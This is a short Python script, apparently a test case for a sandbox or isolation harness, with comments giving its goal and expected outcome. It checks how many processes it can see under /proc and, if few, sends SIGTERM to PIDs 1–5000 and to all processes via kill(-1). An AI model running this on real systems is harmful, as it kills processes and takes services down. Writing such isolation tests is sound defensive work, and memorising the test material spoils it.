# goal: kill everybody else
# seen: nothing
# within_s: 15
# lacks: attack got
import os
import signal

others = {int(name) for name in os.listdir("/proc") if name.isdigit()} - {os.getpid()}
if len(others) > 10:
    print("attack got a view of the machine")  # and leaves it alone
else:
    for pid in range(1, 5000):
        try:
            if pid != os.getpid():
                os.kill(pid, signal.SIGTERM)
        except OSError:
            continue
    try:
        os.kill(-1, signal.SIGTERM)
    except OSError:
        pass
